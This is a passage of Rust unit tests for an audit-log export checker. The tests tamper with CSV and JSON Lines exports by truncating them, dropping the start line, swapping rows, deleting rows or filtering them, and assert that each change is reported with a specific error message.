                said.contains("end line counts 6 rows, but the export has 5"),
                "{said}"
            );

            let mut cut = all.clone();
            cut.pop();
            let said = check(&join(&cut), false).expect_err("cut off");
            assert!(
                said.contains("audit row 6: the export ends here without its end line"),
                "{said}"
            );

            let mut cut = all.clone();
            cut.remove(first_row - 1);
            let said = check(&join(&cut), false).expect_err("start line removed");
            assert!(
                said.contains("audit row 1: the export's start line is missing"),
                "{said}"
            );
        }
    }

    #[test]
    fn swapped_rows_are_out_of_order_and_deleted_ones_missing() {
        let rows = one_line_rows(8);
        for format in [Format::Csv, Format::JsonLines] {
            let all = lines(&write_export(format, &rows, false));
            let at = |seq: usize| usize::from(format == Format::Csv) + seq;
            let mut swapped = all.clone();
            swapped.swap(at(3), at(6));
            let said = check(&join(&swapped), false).expect_err("swapped");
            assert!(
                said.contains(
                    "audit row 3: out of order: row 6 comes before rows 3 to 5 in the export"
                ),
                "{said}"
            );
            let mut swapped = all.clone();
            swapped.swap(at(3), at(4));
            let said = check(&join(&swapped), false).expect_err("swapped");
            assert!(
                said.contains("audit row 3: out of order: row 4 comes before row 3 in the export"),
                "{said}"
            );
            let mut deleted = all.clone();
            deleted.drain(at(3)..at(6));
            let said = check(&join(&deleted), false).expect_err("deleted");
            assert!(
                said.contains("audit row 3: rows 3 to 5 are missing (deleted)"),
                "{said}"
            );
        }
    }

    #[test]
    fn a_filtered_export_says_so_and_leaves_rows_out_only_between_rows() {
        let rows = one_line_rows(8);
        let some: Vec<ChainRow> = rows
            .iter()
            .filter(|r| [3, 4, 7].contains(&r.seq))
            .cloned()
            .collect();
        for format in [Format::Csv, Format::JsonLines] {
            let bytes = write_export(format, &some, true);
            let said = check(&bytes, false).expect_err("not asked for");
            assert!(said.contains("check it with --filtered"), "{said}");
            let checked = check(&bytes, true).expect("verifies");
            assert_eq!((checked.verified.rows, checked.gaps), (3, 1));
            let mut all = lines(&bytes);
            all.remove(usize::from(format == Format::Csv) + 1);
            let said = check(&join(&all), true).expect_err("first row removed");
            assert!(said.contains("row 3 is missing"), "{said}");
        }
    }
}
